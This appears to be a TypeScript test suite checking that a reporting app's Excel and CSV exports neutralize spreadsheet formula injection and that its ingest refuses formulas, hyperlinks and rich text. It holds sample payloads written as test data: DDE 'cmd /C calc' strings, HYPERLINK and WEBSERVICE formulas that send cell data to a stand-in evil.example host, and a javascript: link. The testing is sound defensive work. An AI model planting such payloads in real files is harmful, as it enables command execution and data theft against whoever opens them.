import ExcelJS from 'exceljs';
import fc from 'fast-check';
import JSZip from 'jszip';
import * as XLSX from 'xlsx';
import type { ReportIdentity, ReportRow, ReturnedRow } from '../../shared/domain/report-sheet';
import { parseCsv, toCsv } from '../../shared/format/csv';
import { validateReturnedRow } from '../../shared/domain/report-sheet';
import { neutralizeFormulaText } from '../../shared/format/formula-text';
import { signReportIdentity } from '../../shared/domain/report-signature';
import { readReturnedWorkbook } from '../../shared/reports/report-reader';
import { buildReportWorkbook } from '../../shared/reports/report-workbook';

/*
 * Formula injection (OWASP ASVS 5.0 V1.2.10), both ways.
 *
 * Out: a consumer name from the CRM such as =HYPERLINK(...), +1, -2, @SUM(...), or one starting with
 * a tab or CR — and the same in every other text the sheets carry (reason, county, phone, the
 * organization's name) — is written into every sheet as inert text: a string cell (t="s" or
 * inlineStr), never a formula (no <f> element in any worksheet), read back as the same text by a
 * second reader (SheetJS). For CSV, neutralizeFormulaText quotes a leading formula character.
 *
 * In: on ingest, formula cells (whatever their cached result, whatever kind: normal, shared, array),
 * hyperlinks and rich text are refused or reduced to plain values. report-reader.test.ts covers a
 * formula with a cached value, a rich-text resolution and a hyperlink comment; this adds formulas in
 * every column and of every kind, hyperlinks and rich text in the columns whose values are checked,
 * and text that only looks like a formula.
 */
const SECRET = Buffer.alloc(32, 5);
const IDENTITY: ReportIdentity = {
  reportId: '2017-11-01_2017-11-15.org-injection',
  organizationId: 'org-injection',
  windowId: '2017-11-01_2017-11-15',
  version: 1,
};

const HOSTILE = [
  '=HYPERLINK("http://evil.example/?leak="&A2,"Click for details")',
  '+1',
  '-2',
  '@SUM(A1)',
  '\tTabbed',
  '\rCarriage',
  "=cmd|' /C calc'!A0",
  "+1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '=1+1',
] as const;

function rowsWith(values: readonly string[]): ReportRow[] {
  return values.map((value, i) => ({
    referralId: `ref_${String.fromCharCode(97 + i).repeat(26)}`,
    referredOn: '2017-11-02',
    consumerName: value,
    phone: value,
    countyName: value,
    assisterType: 'navigator',
    reason: value,
  }));
}

function build(rows: ReportRow[], organizationName = 'Injection Test Navigators'): Promise<Buffer> {
  return buildReportWorkbook({
    identity: IDENTITY,
    signature: signReportIdentity(IDENTITY, SECRET),
    organizationName,
    window: { start: '2017-11-01', end: '2017-11-15', sendDate: '2017-11-22', dueDate: '2017-11-29' },
    programContact: 'assisterleads@mnsure.org',
    returnInstructions: { uploadUrl: 'https://pal.example.org/upload/x', replyTo: 'reports@pal.example.org' },
    rows,
    generatedAt: new Date('2017-11-22T14:00:00Z'),
  });
}

function decodeXml(text: string): string {
  return text
    .replace(/&#x([0-9a-f]+);/gi, (_, hex: string) => String.fromCodePoint(parseInt(hex, 16)))
    .replace(/&#(\d+);/g, (_, dec: string) => String.fromCodePoint(Number(dec)))
    .replace(/&quot;/g, '"')
    .replace(/&apos;/g, "'")
    .replace(/&lt;/g, '<')
    .replace(/&gt;/g, '>')
    .replace(/&amp;/g, '&');
}

/** The workbook's parts as any reader sees them: each sheet's XML by name, and the shared strings. */
async function parts(file: Buffer): Promise<{ sheets: Map<string, string>; shared: string[] }> {
  const zip = await JSZip.loadAsync(file);
  const read = async (name: string) => (await zip.file(name)?.async('string')) ?? '';
  const workbook = await read('xl/workbook.xml');
  const rels = await read('xl/_rels/workbook.xml.rels');
  const targets = new Map(
    [...rels.matchAll(/<Relationship\b[^>]*>/g)].map((m) => [
      /\bId="([^"]+)"/.exec(m[0])?.[1],
      /\bTarget="([^"]+)"/.exec(m[0])?.[1],
    ]),
  );
  const sheets = new Map<string, string>();
  for (const sheet of workbook.matchAll(/<sheet\b[^>]*>/g)) {
    const name = decodeXml(/\bname="([^"]*)"/.exec(sheet[0])?.[1] ?? '');
    const target = targets.get(/\br:id="([^"]+)"/.exec(sheet[0])?.[1]) ?? '';
    sheets.set(name, await read(target.startsWith('/') ? target.slice(1) : `xl/${target}`));
  }
  const shared = [...(await read('xl/sharedStrings.xml')).matchAll(/<si>([\s\S]*?)<\/si>/g)].map((si) =>
    [...si[1]!.matchAll(/<t(?:\s[^>]*)?>([^<]*)<\/t>/g)].map((t) => decodeXml(t[1]!)).join(''),
  );
  return { sheets, shared };
}

/** A cell's type attribute and its text, straight from the sheet XML. */
function cellOf(xml: string, ref: string, shared: string[]): { type?: string; text?: string; formula: boolean } {
  const match = new RegExp(`<c r="${ref}"([^>]*?)(?:/>|>([\\s\\S]*?)</c>)`).exec(xml);
  if (!match) return { formula: false };
  const type = /\st="([^"]+)"/.exec(match[1] ?? '')?.[1];
  const inner = match[2] ?? '';
  const v = /<v>([^<]*)<\/v>/.exec(inner)?.[1];
  const text =
    type === 's'
      ? shared[Number(v)]
      : type === 'inlineStr'
        ? [...inner.matchAll(/<t(?:\s[^>]*)?>([^<]*)<\/t>/g)].map((t) => decodeXml(t[1]!)).join('')
        : v;
  return { ...(type !== undefined && { type }), ...(text !== undefined && { text }), formula: /<f[\s/>]/.test(inner) };
}

/** XML has no CR in text: a conforming reader turns a raw CR into LF. Either way the cell stays text. */
const asXmlReads = (s: string) => s.replace(/\r\n?/g, '\n');

describe('the report as written: hostile text from the CRM stays inert text in every sheet', () => {
  let file: Buffer;
  let sheets: Map<string, string>;
  let shared: string[];
  const ORG_NAME = '=HYPERLINK("http://evil.example","Open the report")';

  beforeAll(async () => {
    file = await build(rowsWith(HOSTILE), ORG_NAME);
    ({ sheets, shared } = await parts(file));
  });

  it('has no formula element in any worksheet', () => {
    expect([...sheets.keys()]).toEqual(expect.arrayContaining(['Instructions', 'Referrals']));
    for (const [name, xml] of sheets) {
      expect({ name, formulas: xml.match(/<(?:\w+:)?f[\s/>][^<]*/g) ?? [] }).toEqual({ name, formulas: [] });
    }
  });

  it.each(HOSTILE.map((value, i) => [value, i + 2] as const))(
    'writes %j as a string cell, unchanged, in Consumer Name, Phone, County and Reason',
    (value, row) => {
      const xml = sheets.get('Referrals')!;
      for (const column of ['C', 'D', 'E', 'G']) {
        const cell = cellOf(xml, `${column}${row}`, shared);
        expect({ column, type: cell.type, formula: cell.formula }).toEqual({
          column,
          type: expect.stringMatching(/^(s|inlineStr)$/),
          formula: false,
        });
        expect(asXmlReads(cell.text ?? '')).toBe(asXmlReads(value));
      }
    },
  );

  it("writes the organization's name as a string cell on the Instructions sheet", () => {
    const xml = sheets.get('Instructions')!;
    const cells = [...xml.matchAll(/<c r="([A-Z]+\d+)"/g)].map((m) => cellOf(xml, m[1]!, shared));
    const named = cells.filter((c) => c.text?.includes(ORG_NAME));
    expect(named.length).toBeGreaterThan(0);
    for (const cell of named)
      expect(cell).toMatchObject({ type: expect.stringMatching(/^(s|inlineStr)$/), formula: false });
  });

  it('is read back by a second reader (SheetJS) as the same text, with no formula', () => {
    const book = XLSX.read(file, { type: 'buffer', cellFormula: true });
    for (const name of book.SheetNames) {
      for (const [ref, cell] of Object.entries(book.Sheets[name]!)) {
        if (ref.startsWith('!')) continue;
        expect({ name, ref, f: (cell as XLSX.CellObject).f }).toEqual({ name, ref, f: undefined });
      }
    }
    const referrals = book.Sheets.Referrals!;
    HOSTILE.forEach((value, i) => {
      const cell = referrals[`C${i + 2}`] as XLSX.CellObject;
      expect(cell.t).toBe('s');
      expect(asXmlReads(String(cell.v))).toBe(asXmlReads(value));
    });
  });

  it('stays inert for any text at all (property: no <f>, every data cell a string cell)', async () => {
    await fc.assert(
      fc.asyncProperty(
        fc.array(fc.oneof(fc.constantFrom(...HOSTILE), fc.string({ minLength: 1, maxLength: 30 })), {
          minLength: 1,
          maxLength: 5,
        }),
        async (values) => {
          const written = await parts(await build(rowsWith(values)));
          const xml = written.sheets.get('Referrals')!;
          expect(xml).not.toMatch(/<(?:\w+:)?f[\s/>]/);
          values.forEach((_value, i) => {
            for (const column of ['C', 'D', 'E', 'G']) {
              expect(cellOf(xml, `${column}${i + 2}`, written.shared).type).toMatch(/^(s|inlineStr)$/);
            }
          });
        },
      ),
      { numRuns: 25 },
    );
  });
});

describe('neutralizeFormulaText, for CSV', () => {
  const TRIGGERS = ['=', '+', '-', '@', '\t', '\r', '\0'];

  it.each(HOSTILE.map((value) => [value]))('quotes %j so a spreadsheet shows it as text', (value) => {
    expect(neutralizeFormulaText(value)).toBe(`'${value}`);
  });

  // Issue 10: spreadsheet programs skip leading spaces before a formula, and some read full-width signs as ASCII ones.
  it.each([
    ' =1+1',
    '  +1+1',
    '\u00a0-1+1',
    '\u3000@SUM(A1)',
    '\uff1d1+1',
    '\uff0b1',
    '\uff0d1',
    '\uff20SUM(A1)',
    ' \uff1dHYPERLINK("x")',
  ])('quotes %j, a formula after leading whitespace or in full-width signs', (value) => {
    expect(neutralizeFormulaText(value)).toBe(`'${value}`);
    expect(parseCsv(toCsv([[value]]))).toEqual([[`'${value}`]]);
  });

  it('leaves text that only has a sign later on, or whitespace alone, as it is', () => {
    for (const value of ['Called twice = no answer', 'A-1', '   ', 'x\uff1d1']) {
      expect(neutralizeFormulaText(value)).toBe(value);
    }
  });

  it('quotes a NUL first, as ASVS V1.2.10 lists it', () => {
    expect(neutralizeFormulaText('\0=1+1')).toBe("'\0=1+1");
  });

  it('never leaves a formula character first, and loses nothing (property)', () => {
    fc.assert(
      fc.property(
        fc.oneof(
          fc.string(),
          fc.tuple(fc.constantFrom(...TRIGGERS), fc.string()).map(([t, s]) => t + s),
        ),
        (text) => {
          const safe = neutralizeFormulaText(text);
          expect(TRIGGERS).not.toContain(safe.charAt(0));
          expect(safe === text || safe === `'${text}`).toBe(true);
          expect(neutralizeFormulaText(safe)).toBe(safe);
          if (TRIGGERS.includes(text.charAt(0))) expect(safe).toBe(`'${text}`);
        },
      ),
      { numRuns: 500 },
    );
  });
});

// ------------------------------------------------------------------------------------------------------------
// In: what an organization sends back

const H = 8; // Contact Made (Y/N)
const I = 9; // Contact Date
const J = 10; // Resolution
const K = 11; // Comments
const HEADERS: Record<number, string> = {
  [H]: 'Contact Made (Y/N)',
  [I]: 'Contact Date',
  [J]: 'Resolution',
  [K]: 'Comments',
};
const CONTEXT = { referredOn: '2017-11-02', today: '2017-11-27' };

/** Our report with one row filled in by exceljs's ordinary workbook, read back by ingest's reader. */
async function returnedRow(values: Record<number, ExcelJS.CellValue>): Promise<ReturnedRow> {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load((await build(rowsWith(['Ana Peña']))) as unknown as ExcelJS.Buffer);
  const row = workbook.getWorksheet('Referrals')!.getRow(2);
  for (const [column, value] of Object.entries(values)) row.getCell(Number(column)).value = value;
  const read = await readReturnedWorkbook(Buffer.from(await workbook.xlsx.writeBuffer()));
  expect(read.problems).toEqual([]);
  return read.rows[0]!;
}

const VALID: Record<number, ExcelJS.CellValue> = {
  [H]: 'Y',
  [I]: new Date(Date.UTC(2017, 10, 20)),
  [J]: 'Enrolled in QHP',
  [K]: 'Called back',
};

describe('on ingest, a formula in any column is refused, whatever its cached value', () => {
  it.each([
    [H, { formula: 'IF(TRUE,"Y","N")', result: 'Y' }],
    [I, { formula: 'DATE(2017,11,20)', result: new Date(Date.UTC(2017, 10, 20)) }],
    [I, { formula: 'TODAY()', result: 43059 }],
    [J, { formula: 'HYPERLINK("http://evil.example","Enrolled in QHP")', result: 'Enrolled in QHP' }],
    [J, { formula: 'Lists!A3', result: 'Enrolled in QHP' }],
    [K, { formula: 'HYPERLINK("http://evil.example/?"&A2,"details")', result: 'details' }],
    [K, { formula: 'WEBSERVICE("http://evil.example")', result: '' }],
  ] as [number, ExcelJS.CellFormulaValue][])('column %i (%#): =%j', async (column, formula) => {
    const row = await returnedRow({ ...VALID, [column]: formula });
    const checked = validateReturnedRow(row, CONTEXT);
    expect(checked).toMatchObject({
      ok: false,
      problems: expect.arrayContaining([expect.objectContaining({ column: HEADERS[column], rule: 'formula' })]),
    });
  });
});

describe('on ingest, hyperlinks and rich text are reduced to their plain text', () => {
  it('a hyperlinked resolution counts as its text, and the outcome keeps no link', async () => {
    const row = await returnedRow({
      ...VALID,
      [J]: { text: 'Enrolled in QHP', hyperlink: 'http://evil.example/phish' },
      [K]: { text: 'see notes', hyperlink: 'javascript:alert(1)' },
    });
    const checked = validateReturnedRow(row, CONTEXT);
    expect(checked).toEqual({
      ok: true,
      outcome: { contactMade: true, contactDate: '2017-11-20', resolution: 'Enrolled in QHP', comments: 'see notes' },
    });
    expect(JSON.stringify(checked)).not.toMatch(/evil|javascript/);
  });

  it('rich text in Contact Made and Resolution counts as its runs joined', async () => {
    const row = await returnedRow({
      ...VALID,
      [H]: { richText: [{ text: 'Y', font: { bold: true, color: { argb: 'FFFF0000' } } }] },
      [J]: { richText: [{ text: 'Enrolled ', font: { italic: true } }, { text: 'in ' }, { text: 'QHP' }] },
    });
    expect(validateReturnedRow(row, CONTEXT)).toMatchObject({
      ok: true,
      outcome: { contactMade: true, resolution: 'Enrolled in QHP' },
    });
  });

  it('text that only looks like a formula is kept as the text it is, never evaluated', async () => {
    const row = await returnedRow({ ...VALID, [K]: '=1+1' });
    expect(row.comments).toEqual({ kind: 'text', text: '=1+1' });
    expect(validateReturnedRow(row, CONTEXT)).toMatchObject({ ok: true, outcome: { comments: '=1+1' } });
  });
});

/** A minimal returned sheet with the identity in defined names, written as other programs write XML. */
async function handWritten(row2: string): Promise<Buffer> {
  const MAIN = 'http://schemas.openxmlformats.org/spreadsheetml/2006/main';
  const RELS = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
  const signature = signReportIdentity(IDENTITY, SECRET);
  const inline = (ref: string, value: string) => `<c r="${ref}" t="inlineStr"><is><t>${value}</t></is></c>`;
  const header = ['Referral ID', 'Contact Made (Y/N)', 'Contact Date', 'Resolution', 'Comments']
    .map((h, i) => inline(`${'ABCDE'[i]}1`, h))
    .join('');
  const zip = new JSZip();
  zip.file(
    '[Content_Types].xml',
    '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">' +
      '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>' +
      '<Default Extension="xml" ContentType="application/xml"/>' +
      '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>' +
      '<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>',
  );
  zip.file(
    '_rels/.rels',
    `<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="${RELS}/officeDocument" Target="xl/workbook.xml"/></Relationships>`,
  );
  zip.file(
    'xl/_rels/workbook.xml.rels',
    `<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="${RELS}/worksheet" Target="worksheets/sheet1.xml"/></Relationships>`,
  );
  zip.file(
    'xl/workbook.xml',
    `<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="${MAIN}" xmlns:r="${RELS}"><sheets><sheet name="Referrals" sheetId="1" r:id="rId1"/></sheets><definedNames>` +
      `<definedName name="PAL_REPORT_ID">"${IDENTITY.reportId}"</definedName><definedName name="PAL_ORGANIZATION_ID">"${IDENTITY.organizationId}"</definedName>` +
      `<definedName name="PAL_WINDOW_ID">"${IDENTITY.windowId}"</definedName><definedName name="PAL_SIGNATURE">"${signature}"</definedName></definedNames></workbook>`,
  );
  zip.file(
    'xl/worksheets/sheet1.xml',
    `<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="${MAIN}"><sheetData><row r="1">${header}</row>` +
      `<row r="2">${inline('A2', 'ref_aaaaaaaaaaaaaaaaaaaaaaaaaa')}${row2}</row></sheetData></worksheet>`,
  );
  return zip.generateAsync({ type: 'nodebuffer', compression: 'DEFLATE' });
}

describe('on ingest, formulas as other programs write them are refused', () => {
  const Y = '<c r="B2" t="inlineStr"><is><t>Y</t></is></c>';
  const DATE = '<c r="C2" t="inlineStr"><is><t>11/20/2017</t></is></c>';
  const RESOLUTION = '<c r="D2" t="inlineStr"><is><t>Enrolled in QHP</t></is></c>';

  it.each([
    [
      'a string formula (t="str") in Resolution',
      `${Y}${DATE}<c r="D2" t="str"><f>"Enrolled in QHP"</f><v>Enrolled in QHP</v></c>`,
      'Resolution',
    ],
    [
      'a boolean formula (t="b") in Contact Made',
      `<c r="B2" t="b"><f>TRUE()</f><v>1</v></c>${DATE}${RESOLUTION}`,
      'Contact Made (Y/N)',
    ],
    [
      'an array formula in Contact Date',
      `${Y}<c r="C2"><f t="array" ref="C2">DATE(2017,11,20)</f><v>43059</v></c>${RESOLUTION}`,
      'Contact Date',
    ],
    [
      'a shared formula (the master cell) in Contact Date',
      `${Y}<c r="C2"><f t="shared" ref="C2:C3" si="0">DATE(2017,11,20)</f><v>43059</v></c>${RESOLUTION}`,
      'Contact Date',
    ],
    [
      'a formula with no cached value in Comments',
      `${Y}${DATE}${RESOLUTION}<c r="E2"><f>HYPERLINK("http://evil.example","x")</f></c>`,
      'Comments',
    ],
  ])('%s', async (_label, row2, column) => {
    const read = await readReturnedWorkbook(await handWritten(row2));
    expect(read.problems).toEqual([]);
    const checked = validateReturnedRow(read.rows[0]!, { referredOn: '2017-11-02', today: '2017-11-27' });
    expect(checked).toMatchObject({
      ok: false,
      problems: expect.arrayContaining([expect.objectContaining({ column, rule: 'formula' })]),
    });
  });
});
